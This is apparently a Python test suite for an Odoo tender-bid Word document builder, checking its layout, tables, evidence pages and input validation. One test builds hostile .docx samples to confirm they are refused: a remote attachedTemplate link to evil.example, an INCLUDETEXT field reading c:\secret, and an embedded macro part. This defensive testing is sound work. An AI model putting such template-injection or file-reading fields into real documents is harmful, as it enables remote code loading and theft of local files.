import io
import pathlib
import tempfile
import zipfile
from unittest.mock import patch

from docx import Document
from PIL import Image

from odoo.tests import BaseCase, tagged

from ..tools import pdf_pages
from ..tools.bid_template import build_bid_template
from ..tools.docx_builder import (
    BuildError,
    Chapter,
    Evidence,
    HtmlText,
    Link,
    PartBuilder,
    Signature,
    Table,
    check_marks,
)
from ..tools.docx_pictures import MOST_SIDE, PictureError, prepare_picture
from ..tools.docx_xml import W
from ..tools.pdf_pages import PdfError, count_pages
from .tender_library_common import make_pdf
from .tender_package_common import (
    fill_in,
    find_faults,
    make_evidence,
    make_photo,
    make_plain_layout,
)
from .word_files import OLE, build_docx, change_docx, read_part


@tagged("post_install", "-at_install")
class TestTenderBuilderDocuments(BaseCase):
    """Word documents of a bid: whole, readable, and of what was put in."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.layout = fill_in(build_bid_template(), project="Parcels <A> & B")

    def _build(self, *chapters, layout=None, load_picture=None):
        output = io.BytesIO()
        builder = PartBuilder(layout or self.layout, load_picture)
        builder.build(chapters, output, {"title": "T & t", "author": "Shunda"})
        self.assertEqual(find_faults(output.getvalue()), [])
        return output.getvalue()

    def _get_texts(self, content):
        document = Document(io.BytesIO(content))
        return [p.text for p in document.paragraphs if p.text]

    def test_a_part_has_cover_contents_and_chapters(self):
        content = self._build(
            Chapter("Letter", [HtmlText("<p>We bid.</p>")]),
            Chapter("Papers", [Chapter("Licence", level=2)]),
        )
        texts = self._get_texts(content)
        self.assertIn("Parcels <A> & B", texts)
        self.assertEqual(
            texts[-4:], ["1　Letter", "We bid.", "2　Papers", "2.1　Licence"]
        )
        xml = read_part(content).decode()
        self.assertIn('TOC \\o "1-2"', xml)
        settings = read_part(content, "word/settings.xml").decode()
        self.assertIn('<w:updateFields w:val="true"/>', settings)
        # each line of the contents names the page of its heading
        self.assertEqual(xml.count("PAGEREF"), 3)
        core = read_part(content, "docProps/core.xml").decode()
        self.assertIn("<dc:title>T &amp; t</dc:title>", core)
        self.assertIn("<dc:creator>Shunda</dc:creator>", core)

    def test_pages_are_counted_and_the_cover_is_not_headed(self):
        document = Document(io.BytesIO(self.layout))
        section = document.sections[0]
        self.assertTrue(section.different_first_page_header_footer)
        footer = section.footer._element.xml
        self.assertIn("NUMPAGES", footer)
        self.assertIn(" PAGE ", footer)
        self.assertIn("Parcels <A> & B", section.header.paragraphs[0].text)

    def test_rows_of_a_table_hold_their_text(self):
        wild = "A & <B></w:t> ]]> \x01\x0b C\nsecond\tcell"
        rows = [(str(number), wild, "") for number in range(300)]
        content = self._build(
            Chapter("Answers", [Table(("No", "A", "B"), rows, (1, 4, 2))])
        )
        table = Document(io.BytesIO(content)).tables[0]
        texts = [node.text for node in table._tbl.iter(W + "t")]
        self.assertEqual(len(table._tbl.findall(W + "tr")), 301)
        self.assertEqual(texts.count("A & <B></w:t> ]]>  C"), 300)
        self.assertEqual(texts.count("second"), 300)
        # the head is repeated on each page
        self.assertIsNotNone(table._tbl.find(f"{W}tr/{W}trPr/{W}tblHeader"))

    def test_a_cell_names_the_page_of_its_evidence(self):
        content = self._build(
            Chapter(
                "Answers",
                [Table(("Evidence",), [([Link("Annex 1, page #", "annex_1")],)], (1,))],
            ),
            Chapter("Annexes", [Evidence("Annex 1", make_photo, "annex_1")]),
        )
        xml = read_part(content).decode()
        self.assertIn("PAGEREF annex_1 \\h", xml)
        self.assertIn('w:name="annex_1"', xml)

    def test_evidence_stands_page_by_page_in_its_order(self):
        content = self._build(
            Chapter(
                "Evidence",
                [
                    Evidence("Licence", lambda: make_photo(color="red")),
                    Evidence("Certificate", lambda: make_evidence(3)),
                    Evidence("Photo", lambda: make_photo("JPEG", (4000, 3000), "blue")),
                    # the same file once more is stored once
                    Evidence("Licence again", lambda: make_photo(color="red")),
                ],
            )
        )
        texts = self._get_texts(content)
        self.assertEqual(
            texts[-6:],
            [
                "Licence",
                "Certificate（1/3）",
                "Certificate（2/3）",
                "Certificate（3/3）",
                "Photo",
                "Licence again",
            ],
        )
        document = Document(io.BytesIO(content))
        self.assertEqual(len(document.inline_shapes), 6)
        section = document.sections[0]
        width = section.page_width - section.left_margin - section.right_margin
        for shape in document.inline_shapes:
            self.assertLessEqual(shape.width, width)
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            media = [name for name in archive.namelist() if "/media/" in name]
            self.assertEqual(len(media), 5)
            sizes = [Image.open(io.BytesIO(archive.read(name))).size for name in media]
        self.assertLessEqual(max(max(size) for size in sizes), MOST_SIDE)

    def test_a_chapter_written_in_word_is_put_in(self):
        chapter = Document()
        chapter.add_heading("Sorting", 2)
        chapter.add_paragraph("Two shifts", style="List Bullet")
        chapter.add_picture(io.BytesIO(make_photo()))
        output = io.BytesIO()
        chapter.save(output)
        content = self._build(
            Chapter("Plan", [Evidence("Operations", output.getvalue)]),
            Chapter("End", [HtmlText("<p>after</p>")]),
        )
        texts = self._get_texts(content)
        self.assertEqual(
            texts[-6:],
            ["1　Plan", "Operations", "Sorting", "Two shifts", "2　End", "after"],
        )
        self.assertEqual(len(Document(io.BytesIO(content)).inline_shapes), 1)

    def test_pictures_of_a_text_come_from_the_bid_alone(self):
        text = HtmlText("<p><img src='/web/image/3'></p>")
        content = self._build(
            Chapter("A", [text]), load_picture=lambda source: make_photo()
        )
        self.assertEqual(len(Document(io.BytesIO(content)).inline_shapes), 1)
        with self.assertRaises(BuildError) as caught:
            self._build(Chapter("A", [text]))
        self.assertEqual(
            (caught.exception.code, caught.exception.place), ("picture", "A")
        )

    def test_a_layout_of_plain_word_gets_the_styles(self):
        content = self._build(
            Chapter(
                "Letter",
                [
                    HtmlText("<ul><li>x</li></ul><table><tr><td>y</td></tr></table>"),
                    Signature(("Bidder", "Date")),
                ],
            ),
            layout=make_plain_layout(),
        )
        styles = {
            p.text: p.style.name for p in Document(io.BytesIO(content)).paragraphs
        }
        self.assertEqual(styles["1　Letter"], "Heading 1")
        self.assertEqual(styles["Bidder"], "Bid Text")

    def test_headings_that_word_counts_are_not_counted_twice(self):
        layout = make_plain_layout()
        styles = read_part(layout, "word/styles.xml").decode()
        before, mark, after = styles.partition('w:styleId="Heading1"')
        head, tag, tail = after.partition("<w:pPr>")
        counted = (
            f"{before}{mark}{head}{tag}"
            '<w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr>' + tail
        )
        # its own keepNext stands after it now: only the title is looked at
        layout = change_docx(layout, {"word/styles.xml": counted.encode()})
        output = io.BytesIO()
        PartBuilder(layout).build(
            [Chapter("Letter")], output, {"title": "", "author": ""}
        )
        self.assertEqual(self._get_texts(output.getvalue())[-1], "Letter")

    def test_a_layout_without_a_place_is_refused(self):
        for paragraphs in (("{{ project }}",), ("text",)):
            with self.subTest(paragraphs=paragraphs):
                with self.assertRaises(BuildError) as caught:
                    check_marks(make_plain_layout(*paragraphs))
                self.assertEqual(caught.exception.code, "mark")
        in_table = fill_in(build_docx("x", rows=["{{ body }}"]))
        with self.assertRaises(BuildError):
            check_marks(in_table)

    def test_bad_evidence_is_named_with_its_reason(self):
        evil = build_docx("x")
        relations = read_part(evil, "word/_rels/document.xml.rels").decode()
        outside = relations.replace(
            "</Relationships>",
            '<Relationship Id="rId99" Type="http://x/attachedTemplate"'
            ' Target="http://evil.example/t.dotm" TargetMode="External"/>'
            "</Relationships>",
        )
        field = read_part(evil).replace(
            b"<w:t>x</w:t>",
            b"<w:instrText> INCLUDE</w:instrText>"
            b"<w:instrText>TEXT c:\\secret </w:instrText>",
        )
        cases = {
            "damaged": make_evidence()[:200],
            "password": make_pdf(password="x"),
            "format": b"GIF89a" + bytes(100),
            "damaged ": b"\x89PNG\r\n\x1a\n" + bytes(50),
            "word": OLE,
            "word damaged": evil[:500],
            "word outside": change_docx(
                evil, {"word/_rels/document.xml.rels": outside.encode()}
            ),
            "word fields": change_docx(evil, {"word/document.xml": field}),
            "word macros": change_docx(evil, {"word/vbaProject.bin": b"x"}),
        }
        for expected, content in cases.items():
            with self.subTest(expected=expected):
                chapter = Chapter("E", [Evidence("Paper 7", lambda c=content: c)])
                with self.assertRaises(BuildError) as caught:
                    PartBuilder(self.layout).build(
                        [chapter], io.BytesIO(), {"title": "", "author": ""}
                    )
                code, _blank, detail = expected.partition(" ")
                self.assertEqual(caught.exception.code, code)
                self.assertEqual(caught.exception.place, "Paper 7")
                self.assertIn(detail, caught.exception.detail)

    def test_a_picture_that_unfolds_to_gigabytes_is_not_unfolded(self):
        output = io.BytesIO()
        Image.new("1", (20_000, 20_000)).save(output, "PNG")
        with self.assertRaises(PictureError) as caught:
            prepare_picture(output.getvalue())
        self.assertEqual(caught.exception.code, "large")

    def test_a_photo_is_turned_upright_and_loses_its_notes(self):
        photo = Image.new("RGB", (400, 200), "green")
        notes = Image.Exif()
        notes[0x0112] = 6
        notes[0x010E] = "where it was taken"
        output = io.BytesIO()
        photo.save(output, "JPEG", exif=notes)
        content, kind, size = prepare_picture(output.getvalue())
        self.assertEqual((kind, size), ("jpeg", (200, 400)))
        self.assertNotIn(b"where it was taken", content)

    def test_a_pdf_that_never_ends_costs_its_own_process(self):
        with tempfile.TemporaryDirectory() as folder:
            path = pathlib.Path(folder, "a.pdf")
            path.write_bytes(make_evidence(2))
            self.assertEqual(count_pages(path), 2)
            with patch.object(pdf_pages, "MOST_SECONDS", 0.001):
                with self.assertRaises(PdfError) as caught:
                    count_pages(path)
            self.assertEqual(caught.exception.code, "time")

    def test_a_disk_without_room_is_told_as_such(self):
        with patch.object(
            pathlib.Path, "write_bytes", side_effect=OSError(28, "No space left")
        ):
            with self.assertRaises(OSError):
                self._build(Chapter("E", [Evidence("Paper", make_photo)]))
